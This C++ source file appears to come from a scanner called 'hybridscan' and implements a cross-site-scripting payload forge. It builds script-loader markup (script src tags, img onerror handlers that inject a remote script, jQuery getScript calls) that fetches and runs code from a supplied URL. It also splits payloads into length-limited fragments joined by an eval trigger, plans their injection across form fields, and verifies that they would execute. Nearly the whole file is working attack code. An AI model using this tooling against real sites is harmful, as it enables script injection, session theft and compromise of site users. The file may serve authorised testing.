#include "hybridscan/payload_forge.hpp"

#include <algorithm>
#include <cctype>
#include <map>
#include <numeric>

namespace hybridscan {

namespace {

bool is_forbidden_in_wrapper(char c) {
  // These characters terminate an unquoted attribute value or the chunk's
  // double-quoted literal, so no fragment can carry them.
  return std::isspace(static_cast<unsigned char>(c)) != 0 || c == '"' ||
         c == '>';
}

std::string wrapper_prefix(const PayloadVector& wrapper) {
  if (wrapper.style != PayloadStyle::EventAttribute) {
    throw ForgeError(
        "only event-attribute wrappers can carry fragments; the script-tag "
        "form has no inline code slot");
  }
  std::string tag = wrapper.tag_name.empty() ? "img" : wrapper.tag_name;
  std::string event = wrapper.event_name.empty() ? "onerror" : wrapper.event_name;
  if (event == "onerror") {
    // The empty src guarantees the load error that fires the handler.
    return "<" + tag + " src " + event + "=";
  }
  return "<" + tag + " " + event + "=";
}

void check_url(std::string_view url) {
  if (url.empty()) throw InvalidUrlError("URL is empty");
  for (char c : url) {
    if (std::isspace(static_cast<unsigned char>(c)) || c == '\'' ||
        c == '"' || c == '<' || c == '>') {
      throw InvalidUrlError(
          "URL contains whitespace, quote or angle characters: " +
          std::string(url));
    }
    unsigned char u = static_cast<unsigned char>(c);
    if (u < 0x20 || u > 0x7E) {
      throw InvalidUrlError("URL contains non-printable or non-ASCII bytes");
    }
  }
}

std::string join_plus(const std::vector<std::string>& parts) {
  std::string out;
  for (size_t i = 0; i < parts.size(); ++i) {
    if (i > 0) out += '+';
    out += parts[i];
  }
  return out;
}

bool is_identifier(std::string_view s) {
  if (s.empty()) return false;
  auto head = [](char c) {
    return std::isalpha(static_cast<unsigned char>(c)) || c == '_' || c == '$';
  };
  if (!head(s[0])) return false;
  for (char c : s.substr(1)) {
    if (!head(c) && !std::isdigit(static_cast<unsigned char>(c))) return false;
  }
  return true;
}

std::vector<std::string> split_plus(std::string_view s) {
  std::vector<std::string> parts;
  std::string cur;
  for (char c : s) {
    if (c == '+') {
      parts.push_back(cur);
      cur.clear();
    } else {
      cur += c;
    }
  }
  parts.push_back(cur);
  return parts;
}

}  // namespace

std::string fragment_var_name(size_t index) {
  std::string name;
  size_t n = index;
  while (true) {
    name.insert(name.begin(), static_cast<char>('a' + n % 26));
    if (n < 26) break;
    n = n / 26 - 1;
  }
  return name;
}

Payload make_loader(std::string_view url, LoaderStyle style) {
  check_url(url);
  Payload payload;
  switch (style) {
    case LoaderStyle::ScriptTagLoader: {
      payload.markup = "<script src=" + std::string(url) + "></script>";
      payload.vector = {PayloadStyle::ScriptTag, "script", ""};
      payload.inner_code = "";  // the fetched file is the code
      payload.length = static_cast<int>(payload.markup.size());
      payload.note = "character count " + std::to_string(payload.length) +
                     " includes the closing tag's final '>'; the form is "
                     "often cited as " + std::to_string(payload.length - 1) +
                     " with that character elided";
      return payload;
    }
    case LoaderStyle::ImgOnErrorDynamic: {
      payload.inner_code =
          "d=document;b=d.createElement('script');d.body.appendChild(b);"
          "b.src='" + std::string(url) + "'";
      payload.markup = "<img src onerror=" + payload.inner_code + ">";
      payload.vector = {PayloadStyle::EventAttribute, "img", "onerror"};
      payload.length = static_cast<int>(payload.markup.size());
      return payload;
    }
    case LoaderStyle::JQueryGetScript: {
      size_t scheme = url.find("://");
      if (scheme == std::string_view::npos || scheme == 0) {
        throw InvalidUrlError(
            "getScript needs an explicit scheme, e.g. http://" +
            std::string(url));
      }
      payload.inner_code = "$.getScript('" + std::string(url) + "')";
      payload.markup = "<img src onerror=" + payload.inner_code + ">";
      payload.vector = {PayloadStyle::EventAttribute, "img", "onerror"};
      payload.length = static_cast<int>(payload.markup.size());
      return payload;
    }
  }
  throw ForgeError("unknown loader style");
}

std::string reassemble(const std::vector<Fragment>& fragments) {
  std::vector<const Fragment*> ordered;
  ordered.reserve(fragments.size());
  for (const Fragment& f : fragments) ordered.push_back(&f);
  std::sort(ordered.begin(), ordered.end(),
            [](const Fragment* a, const Fragment* b) { return a->index < b->index; });
  std::string code;
  for (const Fragment* f : ordered) {
    if (f->role == FragmentRole::Piece || f->role == FragmentRole::Direct)
      code += f->chunk;
  }
  return code;
}

std::vector<Fragment> fragment_payload(std::string_view inner_code, int limit,
                                       const PayloadVector& wrapper) {
  if (inner_code.empty()) throw ForgeError("inner code is empty");
  const std::string prefix = wrapper_prefix(wrapper);

  for (size_t i = 0; i < inner_code.size(); ++i) {
    if (is_forbidden_in_wrapper(inner_code[i])) {
      throw UnescapableChunkError(
          "code byte at position " + std::to_string(i) +
          " ('" + std::string(1, inner_code[i]) +
          "') cannot be carried inside the wrapper");
    }
  }

  auto make_fragment = [](int index, FragmentRole role, std::string markup,
                          std::string var, std::string chunk) {
    Fragment f;
    f.index = index;
    f.role = role;
    f.length = static_cast<int>(markup.size());
    f.markup = std::move(markup);
    f.var_name = std::move(var);
    f.chunk = std::move(chunk);
    return f;
  };

  // Whole code in one fragment when it fits. A leading quote would turn
  // the unquoted attribute value into a quoted one, so such code goes
  // through the piece wrapper instead.
  if (inner_code.front() != '\'' && inner_code.front() != '"') {
    std::string markup = prefix + std::string(inner_code) + ">";
    if (static_cast<int>(markup.size()) <= limit) {
      return {make_fragment(0, FragmentRole::Direct, std::move(markup), "",
                            std::string(inner_code))};
    }
  }

  std::vector<Fragment> fragments;
  std::vector<std::string> vars;
  int index = 0;
  size_t pos = 0;
  while (pos < inner_code.size()) {
    std::string var = fragment_var_name(vars.size());
    // var="chunk" plus the quotes and '>' on top of the prefix, keeping two
    // characters of slack below the limit (see the packing tests).
    int overhead = static_cast<int>(prefix.size() + var.size()) + 4;
    int capacity = limit - overhead - 2;
    if (capacity < 1) {
      throw LimitTooSmallError(
          "limit " + std::to_string(limit) +
          " leaves no room for a chunk in piece '" + var + "'");
    }
    std::string chunk(
        inner_code.substr(pos, static_cast<size_t>(capacity)));
    pos += chunk.size();
    std::string markup = prefix + var + "=\"" + chunk + "\">";
    fragments.push_back(make_fragment(index++, FragmentRole::Piece,
                                      std::move(markup), var, std::move(chunk)));
    vars.push_back(std::move(var));
  }

  // Trigger, with intermediate combiners when the variable list alone
  // would not fit.
  size_t next_name = vars.size();
  std::vector<std::string> level = std::move(vars);
  while (true) {
    std::string expr = "eval(" + join_plus(level) + ")";
    std::string markup = prefix + expr + ">";
    if (static_cast<int>(markup.size()) <= limit) {
      fragments.push_back(make_fragment(index++, FragmentRole::Trigger,
                                        std::move(markup), "", ""));
      return fragments;
    }

    std::vector<std::string> next_level;
    bool made_combiner = false;
    size_t i = 0;
    while (i < level.size()) {
      std::string var = fragment_var_name(next_name);
      std::vector<std::string> group = {level[i++]};
      while (i < level.size()) {
        std::vector<std::string> candidate = group;
        candidate.push_back(level[i]);
        std::string body = prefix + var + "=" + join_plus(candidate) + ">";
        if (static_cast<int>(body.size()) > limit) break;
        group = std::move(candidate);
        ++i;
      }
      if (group.size() < 2) {
        next_level.push_back(group[0]);  // lone variable rides along as-is
        continue;
      }
      ++next_name;
      std::string body = prefix + var + "=" + join_plus(group) + ">";
      fragments.push_back(make_fragment(index++, FragmentRole::Combiner,
                                        std::move(body), var, ""));
      next_level.push_back(std::move(var));
      made_combiner = true;
    }
    if (!made_combiner) {
      throw LimitTooSmallError("limit " + std::to_string(limit) +
                               " cannot fit the eval trigger");
    }
    level = std::move(next_level);
  }
}

InjectionPlan plan_injection(const std::vector<Fragment>& fragments,
                             const Channel& channel,
                             const std::vector<std::string>& field_preference) {
  if (fragments.empty()) throw ForgeError("no fragments to plan");

  std::vector<const Fragment*> ordered;
  ordered.reserve(fragments.size());
  for (const Fragment& f : fragments) ordered.push_back(&f);
  std::sort(ordered.begin(), ordered.end(),
            [](const Fragment* a, const Fragment* b) { return a->index < b->index; });

  InjectionPlan plan;
  plan.channel = channel;
  for (const Fragment* f : ordered) plan.fragments.push_back(*f);

  // Field probe order: preferences first, then catalog order.
  std::vector<const FieldSpec*> probe;
  for (const std::string& name : field_preference) {
    if (const FieldSpec* f = channel.find_field(name)) probe.push_back(f);
  }
  for (const FieldSpec& f : channel.fields) {
    if (std::find(probe.begin(), probe.end(), &f) == probe.end())
      probe.push_back(&f);
  }
  if (probe.empty()) {
    throw InsufficientCapacityError("channel " + channel.name +
                                    " has no fields");
  }

  switch (channel.delivery) {
    case Delivery::MultiField: {
      plan.mode = PlanMode::MultiField;
      std::vector<const FieldSpec*> used;
      for (const Fragment* f : ordered) {
        const FieldSpec* chosen = nullptr;
        for (const FieldSpec* candidate : probe) {
          if (std::find(used.begin(), used.end(), candidate) != used.end())
            continue;
          if (validate_value(channel, candidate->name, f->markup).ok()) {
            chosen = candidate;
            break;
          }
        }
        if (chosen == nullptr) {
          throw InsufficientCapacityError(
              "fragment " + std::to_string(f->index) + " (" +
              std::to_string(f->length) + " chars) fits no remaining " +
              channel.name + " field");
        }
        used.push_back(chosen);
        plan.assignments.push_back({chosen->name, -1, f->index, f->markup});
      }
      return plan;
    }
    case Delivery::SingleFieldTimed: {
      plan.mode = PlanMode::TimedSequence;
      const FieldSpec* field = probe.front();
      int slot = 0;
      for (const Fragment* f : ordered) {
        if (!validate_value(channel, field->name, f->markup).ok()) {
          throw InsufficientCapacityError(
              "fragment " + std::to_string(f->index) + " (" +
              std::to_string(f->length) + " chars) exceeds " + channel.name +
              "." + field->name + " limit " +
              std::to_string(field->max_length));
        }
        plan.assignments.push_back({field->name, slot++, f->index, f->markup});
      }
      return plan;
    }
    case Delivery::SingleShot: {
      plan.mode = PlanMode::MultiField;
      const FieldSpec* field = probe.front();
      std::string combined;
      for (const Fragment* f : ordered) combined += f->markup;
      if (!validate_value(channel, field->name, combined).ok()) {
        throw InsufficientCapacityError(
            "combined payload (" + std::to_string(combined.size()) +
            " chars) exceeds " + channel.name + "." + field->name +
            " limit " + std::to_string(field->max_length));
      }
      plan.assignments.push_back({field->name, -1, -1, std::move(combined)});
      return plan;
    }
  }
  throw ForgeError("unknown delivery mode");
}

VerificationResult verify_plan(const InjectionPlan& plan, const SinkKind& sink,
                               std::optional<std::string> expected_code) {
  VerificationResult result;
  if (!sink.executes_event_attribute) {
    result.reason = "sink " + sink.api_name +
                    " does not execute event attributes; nothing can trigger";
    return result;
  }

  std::string expected =
      expected_code.has_value() ? *expected_code : reassemble(plan.fragments);

  std::vector<const Fragment*> by_index_order;
  for (const Fragment& f : plan.fragments) by_index_order.push_back(&f);
  std::sort(by_index_order.begin(), by_index_order.end(),
            [](const Fragment* a, const Fragment* b) {
              return a->index < b->index;
            });

  std::map<std::string, std::string> env;
  std::string recovered;
  bool triggered = false;

  auto fail = [&result](size_t position, std::string why) {
    result.failed_index = static_cast<int>(position);
    result.reason = std::move(why) + " at delivery position " +
                    std::to_string(position);
    return result;
  };

  // Replays one triggered statement under the role its fragment declares.
  auto replay = [&](const std::string& code, const Fragment& fragment,
                    size_t position, std::string* error) {
    switch (fragment.role) {
      case FragmentRole::Piece: {
        size_t eq = code.find('=');
        if (eq == std::string::npos || !is_identifier(code.substr(0, eq))) {
          *error = "piece did not trigger a variable assignment";
          return;
        }
        std::string rhs = code.substr(eq + 1);
        if (rhs.size() < 2 || rhs.front() != '"' || rhs.back() != '"' ||
            rhs.find('"', 1) != rhs.size() - 1) {
          *error = "piece payload is not a clean string literal";
          return;
        }
        env[code.substr(0, eq)] = rhs.substr(1, rhs.size() - 2);
        return;
      }
      case FragmentRole::Combiner: {
        size_t eq = code.find('=');
        if (eq == std::string::npos || !is_identifier(code.substr(0, eq))) {
          *error = "combiner did not trigger a variable assignment";
          return;
        }
        std::string value;
        for (const std::string& part : split_plus(code.substr(eq + 1))) {
          auto it = env.find(part);
          if (!is_identifier(part) || it == env.end()) {
            *error = "undefined variable '" + part + "'";
            return;
          }
          value += it->second;
        }
        env[code.substr(0, eq)] = std::move(value);
        return;
      }
      case FragmentRole::Trigger: {
        if (code.size() <= 6 || code.compare(0, 5, "eval(") != 0 ||
            code.back() != ')') {
          *error = "trigger is not an eval over the carried variables";
          return;
        }
        std::string value;
        for (const std::string& part :
             split_plus(std::string_view(code).substr(5, code.size() - 6))) {
          auto it = env.find(part);
          if (!is_identifier(part) || it == env.end()) {
            *error = "undefined variable '" + part + "'";
            return;
          }
          value += it->second;
        }
        recovered = std::move(value);
        triggered = true;
        return;
      }
      case FragmentRole::Direct: {
        recovered = code;
        triggered = true;
        return;
      }
    }
    *error = "unknown fragment role";
    (void)position;
  };

  for (size_t position = 0; position < plan.assignments.size(); ++position) {
    const Assignment& assignment = plan.assignments[position];

    // Which fragments this field value delivers, in document order.
    std::vector<const Fragment*> delivered;
    if (assignment.fragment_index >= 0) {
      for (const Fragment* f : by_index_order) {
        if (f->index == assignment.fragment_index) delivered.push_back(f);
      }
    } else {
      delivered = by_index_order;  // the whole payload in one field
    }
    if (delivered.empty()) return fail(position, "assignment maps no fragment");

    ActivationResult activation = evaluate_sink(sink, assignment.value);
    if (activation.executed_code.size() != delivered.size()) {
      return fail(position,
                  "triggered " + std::to_string(activation.executed_code.size()) +
                      " of " + std::to_string(delivered.size()) + " fragments");
    }
    for (size_t j = 0; j < delivered.size(); ++j) {
      std::string error;
      replay(activation.executed_code[j], *delivered[j], position, &error);
      if (!error.empty()) return fail(position, std::move(error));
    }
  }

  if (!triggered) {
    result.reason = "no code was triggered by the delivered fragments";
    return result;
  }
  result.recovered_code = recovered;
  if (recovered != expected) {
    result.reason = "triggered code differs from the forged code";
    return result;
  }
  result.verified = true;
  return result;
}

}  // namespace hybridscan
